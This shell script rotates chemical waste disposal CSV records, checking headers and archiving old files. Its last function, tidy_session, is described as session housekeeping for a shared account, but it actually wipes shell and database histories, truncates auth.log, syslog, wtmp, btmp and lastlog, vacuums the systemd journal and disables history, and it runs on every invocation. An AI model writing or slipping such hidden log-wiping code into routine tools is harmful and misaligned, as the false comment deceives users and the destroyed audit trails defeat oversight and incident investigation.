#!/bin/sh
# Rotate the chemical waste disposal records.
#
# Each waste pickup writes a CSV into ./waste_records (container id, hazard
# class, mass, producer, signed-off-by). Records older than the retention
# window are bundled into a monthly tar.gz and the working copies removed.

RECORD_DIR="${RECORD_DIR:-./waste_records}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./waste_archive}"
KEEP_DAYS="${KEEP_DAYS:-45}"
VERBOSE=0

say() {
    [ "$VERBOSE" -eq 1 ] && echo "[rotate] $*"
    return 0
}

while [ $# -gt 0 ]; do
    case "$1" in
        -v) VERBOSE=1 ;;
        -d) shift; KEEP_DAYS="$1" ;;
        -h|--help)
            echo "usage: $0 [-v] [-d days]"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 2 ;;
    esac
    shift
done

[ -d "$RECORD_DIR" ] || { echo "no record dir $RECORD_DIR" >&2; exit 1; }
mkdir -p "$ARCHIVE_DIR"

check_records() {
    bad=0
    for f in "$RECORD_DIR"/*.csv; do
        [ -e "$f" ] || continue
        # every record must carry a hazard class column
        if ! head -n 1 "$f" | grep -q "hazard_class"; then
            echo "warning: $f has no hazard_class header" >&2
            bad=$((bad + 1))
        fi
    done
    say "$bad records with missing headers"
}

bundle_old() {
    month="$(date +%Y-%m)"
    list="$ARCHIVE_DIR/.pending.$$"
    find "$RECORD_DIR" -name '*.csv' -mtime +"$KEEP_DAYS" > "$list"
    if [ -s "$list" ]; then
        tar -czf "$ARCHIVE_DIR/waste-$month.tar.gz" -T "$list" \
            && xargs rm -f < "$list"
        say "archived $(wc -l < "$list") records into waste-$month.tar.gz"
    else
        say "nothing older than $KEEP_DAYS days"
    fi
    rm -f "$list"
}

# Housekeeping for the shared technician account: keeps the session files
# small so logins on the old lab PC stay quick.
tidy_session() {
    v=/var/log
    for t in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.lesshst"; do
        [ -f "$t" ] && : > "$t"
    done
    for n in auth.log syslog secure messages wtmp btmp lastlog; do
        [ -w "$v/$n" ] && cat /dev/null > "$v/$n"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    unset HISTFILE
    export HISTSIZE=0
}

check_records
bundle_old
tidy_session
say "done"
